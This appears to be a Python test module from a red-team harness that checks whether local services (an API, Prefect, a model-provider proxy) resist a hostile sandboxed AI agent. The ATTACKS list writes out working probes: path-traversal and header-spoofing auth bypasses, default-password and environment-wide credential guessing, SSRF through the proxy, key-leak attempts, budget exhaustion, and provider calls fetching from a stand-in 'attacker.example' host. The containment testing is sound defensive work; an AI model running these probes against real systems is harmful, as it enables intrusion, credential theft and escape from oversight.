"""A hostile agent turns to what listens on this machine: our API, Prefect's, the provider's proxy, neighbours."""

import json
import socket
from typing import Any

from siege import Arena, Attack, Siege, World, besiege

from demo.service import Stage

CLASS = "control plane"
NEEDS = ("stage",)

TOKEN = "no credential in the sandbox, and nothing answers without one"
DOOR = "the proxy passes on what a run needs, and nothing else"
READS = "the proxy reads each call, and passes on what the CLI itself would send"

# `ask METHOD URL [NAME:VALUE...]` says the status and the body; the path goes out as it is written.
ASK = """
ask() { python3 -c '
import http.client, os, sys
method, url, *headers = sys.argv[1:]
host, slash, path = url.split("://", 1)[1].partition("/")
connection = http.client.HTTPConnection(host, timeout=10)
body = os.environ.get("BODY", "{}").encode() if method == "POST" else None
connection.request(method, slash + path, body,
                   {"content-type": "application/json", **dict(header.split(":", 1) for header in headers)})
answer = connection.getresponse()
print(answer.status, answer.read(3000).decode("utf-8", "replace"))
' "$@"; }
export -f ask
"""


def opens(method: str, url: str, *headers: str, refused: str = "401") -> str:
    """Succeeds when the answer is another than a refusal; no answer is an error of its own."""
    words = " ".join(f'"{word}"' for word in (method, url, *headers))
    asked = f'a=$(ask {words}) || {{ echo "no answer: SyntaxError"; exit 1; }}'
    return f'{asked}; echo "$a"; ! grep -qE \'^({refused}) \' <<< "$a"'


def websocket(path: str, protocol: str) -> str:
    key = "dGhlIHNhbXBsZSBub25jZQ=="
    return opens(
        "GET",
        f"$PREFECT{path}",
        "connection:Upgrade",
        "upgrade:websocket",
        "sec-websocket-version:13",
        f"sec-websocket-key:{key}",
        *([f"sec-websocket-protocol:{protocol}"] if protocol else []),
        refused="40.",
    )


def has_the_provider(*betas: str, raw: str = "", **members: Any) -> str:
    """Succeeds when the proxy passes on a call with these members."""
    call = {"model": "claude-sonnet-4-6", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}], **members}
    headers = [f"anthropic-beta:{beta}" for beta in betas]
    asked = opens("POST", "$ANTHROPIC_BASE_URL/v1/messages", "x-api-key:$ANTHROPIC_API_KEY", *headers, refused="40.")
    return f"export BODY='{raw or json.dumps(call)}'; {asked}"


def shows(kind: str, **source: str) -> list[dict[str, Any]]:
    return [{"role": "user", "content": [{"type": kind, "source": source}]}]


EVIL = "https://attacker.example/?what-was-read"
OUTWARD = {
    "fetch an image by URL": has_the_provider(messages=shows("image", type="url", url=EVIL)),
    "fetch a document by URL": has_the_provider(messages=shows("document", type="url", url=EVIL)),
    "read a file of the account": has_the_provider(
        "files-api-2025-04-14", messages=shows("document", type="file", file_id="file_01")
    ),
    "call an MCP server": has_the_provider(
        "mcp-client-2025-11-20", mcp_servers=[{"type": "url", "url": EVIL, "name": "out"}]
    ),
    "run code": has_the_provider(
        "code-execution-2025-08-25", tools=[{"type": "code_execution_20250825", "name": "code_execution"}]
    ),
    "use somebody's container": has_the_provider(container="container_01"),
    "serve a model that is not listed": has_the_provider(model="claude-of-somebody-else"),
    "answer with an error in words that hold every job, by a model's name": has_the_provider(
        model="usage limit reached|1999999999"
    ),
    "serve a dearer tier": has_the_provider("fast-mode-2026-02-01", speed="fast"),
    "read one of two members of a name": has_the_provider(
        raw='{"model": "claude-sonnet-4-6", "max_tokens": 10, "container": "x", "messages": [], "messages": []}'
    ),
    "delete a model": opens(
        "DELETE", "$ANTHROPIC_BASE_URL/v1/models/claude-sonnet-4-6", "x-api-key:$ANTHROPIC_API_KEY", refused="40."
    ),
}


DEAR = json.dumps([{"text": "x", "usage": {"output_tokens": 1_000_000}}])
DEAR_CALL = {
    **{"model": "claude-sonnet-4-6", "max_tokens": 1000},
    "messages": [{"role": "user", "content": f"offline-model: {DEAR}"}],
}
SPENDS = f"""export BODY='{json.dumps(DEAR_CALL)}'
for call in 1 2 3 4 5; do
  case "$(ask POST "$ANTHROPIC_BASE_URL/v1/messages" "x-api-key:$ANTHROPIC_API_KEY")" in 200*) echo passed;; esac
done > answers
cat answers; test "$(grep -c passed answers)" -gt 1
"""

EVERY_VALUE = """
found=1
for value in $(env | cut -d= -f2- | tr ' ' '\\n' | sort -u | grep -E '^.{8,}$'); do
  case "$(ask GET $API/metrics "authorization:Bearer $value")" in 200*) found=0;; esac
  pass=$(printf 'admin:%s' "$value" | base64 -w0)
  case "$(ask POST $PREFECT/api/flow_runs/count "authorization:Basic $pass")" in 200*) found=0;; esac
done
exit $found
"""

ATTACKS = [
    Attack("start a job without a token", opens("POST", "$API/execute"), TOKEN, "held"),
    Attack("ask for a completion without a token", opens("POST", "$API/v1/chat/completions"), TOKEN, "held"),
    Attack("read a job without a token", opens("GET", "$API/jobs/00000000-0000-0000-0000-000000000000"), TOKEN, "held"),
    Attack("read the metrics without a token", opens("GET", "$API/metrics"), TOKEN, "held"),
    Attack("come in with an empty token", opens("GET", "$API/metrics", "authorization:Bearer "), TOKEN, "held"),
    Attack(
        "come in with the run's own token",
        opens("GET", "$API/metrics", "authorization:Bearer $ANTHROPIC_API_KEY"),
        "the run's token opens the proxy alone",
        "held",
    ),
    Attack(
        "come in by another spelling of the path",
        opens("GET", "$API/health/../metrics", refused="401|404")
        + " || "
        + opens("GET", "$API//metrics", refused="401|404")
        + " || "
        + opens("GET", "$API/metrics/", refused="401|404|307"),
        TOKEN,
        "held",
    ),
    Attack(
        "come in by headers of a reverse proxy",
        opens("GET", "$API/metrics", "x-forwarded-for:127.0.0.1", "x-original-url:/health", "x-rewrite-url:/health"),
        TOKEN,
        "held",
    ),
    Attack("try everything in the environment as a credential", EVERY_VALUE, TOKEN, "held"),
    Attack("read Prefect's runs without its password", opens("POST", "$PREFECT/api/flow_runs/filter"), TOKEN, "held"),
    Attack("cancel Prefect's runs without its password", opens("POST", "$PREFECT/api/flow_runs/count"), TOKEN, "held"),
    Attack("read Prefect's settings without its password", opens("GET", "$PREFECT/api/admin/settings"), TOKEN, "held"),
    Attack(
        "read Prefect's variables and blocks without its password",
        opens("POST", "$PREFECT/api/variables/filter"),
        TOKEN,
        "held",
    ),
    Attack(
        "come into Prefect with a password that people use",
        opens("POST", "$PREFECT/api/flow_runs/count", "authorization:Basic YWRtaW46YWRtaW4="),
        TOKEN,
        "held",
    ),
    Attack("send events to Prefect over a websocket", websocket("/api/events/in", ""), TOKEN, "held"),
    Attack("read events of Prefect over a websocket", websocket("/api/events/out", ""), TOKEN, "held"),
    Attack("read logs of Prefect over a websocket", websocket("/api/logs/out", ""), TOKEN, "held"),
    Attack("use the provider's proxy without a token", opens("POST", "$ANTHROPIC_BASE_URL/v1/messages"), DOOR, "held"),
    Attack(
        "use the provider's proxy with a token of another shape",
        opens(
            "POST",
            "$ANTHROPIC_BASE_URL/v1/messages",
            "x-api-key:sk-ant-run-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        ),
        DOOR,
        "held",
    ),
    Attack(
        "reach the provider's files",
        opens("GET", "$ANTHROPIC_BASE_URL/v1/files", "x-api-key:$ANTHROPIC_API_KEY", refused="404"),
        DOOR,
        "held",
    ),
    Attack(
        "reach the provider's batches, which nobody meters",
        opens("POST", "$ANTHROPIC_BASE_URL/v1/messages/batches", "x-api-key:$ANTHROPIC_API_KEY", refused="404"),
        DOOR,
        "held",
    ),
    Attack(
        "reach another path of the provider by dots and escapes",
        " || ".join(
            opens("GET", f"$ANTHROPIC_BASE_URL{path}", "x-api-key:$ANTHROPIC_API_KEY", refused="40.")
            for path in ("/v1/messages/../files", "/v1/models/..%2ffiles", "/v1%2ffiles", "//v1/files", "/v1/models/..")
        ),
        DOOR,
        "held",
    ),
    Attack(
        "reach another server through the provider's proxy",
        "python3 -c '\nimport http.client, os, sys\n"
        'host = os.environ["ANTHROPIC_BASE_URL"].split("://")[1]\nc = http.client.HTTPConnection(host, timeout=10)\n'
        'c.putrequest("GET", os.environ["API"] + "/health", skip_host=True)\n'
        'c.putheader("x-api-key", os.environ["ANTHROPIC_API_KEY"])\nc.putheader("host", "127.0.0.1")\n'
        "c.endheaders()\nsys.exit(0 if c.getresponse().status < 400 else 1)'",
        DOOR,
        "held",
    ),
    Attack(
        "learn the provider's key from an answer of the proxy's",
        'ask POST "$ANTHROPIC_BASE_URL/v1/messages" "x-api-key:$ANTHROPIC_API_KEY"; '
        'ask TRACE "$ANTHROPIC_BASE_URL/v1/messages" "x-api-key:$ANTHROPIC_API_KEY"',
        DOOR,
        "held",
        lambda siege, deed: siege.arena.provider_key in deed.output,
    ),
    *(Attack(f"have the provider {what}", script, READS, "held") for what, script in OUTWARD.items()),
    Attack(
        "reach an abstract socket of this machine",
        'python3 -c \'import os, socket; socket.socket(socket.AF_UNIX).connect("\\0" + os.environ["MARK"])\'',
        accepted="the network is this machine's: abstract sockets and other services on loopback can be reached",
    ),
    # the last one: after it the run has no budget for a call of its own
    Attack(
        "call the model past the run's budget", SPENDS, "the proxy reserves before a call, and counts it after", "held"
    ),
]


async def lay_siege(arena: Arena, world: World, stage: Stage) -> Siege:
    """Against the whole service, which somebody else runs on this machine."""
    words = f"export API={stage.url} PREFECT={stage.prefect_url}\n{ASK}"
    with socket.socket(socket.AF_UNIX) as neighbour:
        neighbour.bind(f"\0{arena.mark}")
        neighbour.listen()
        return await besiege(arena, world, ATTACKS, words=words)


def test_is_held(verdict: bool, expected: bool) -> None:
    assert verdict is expected
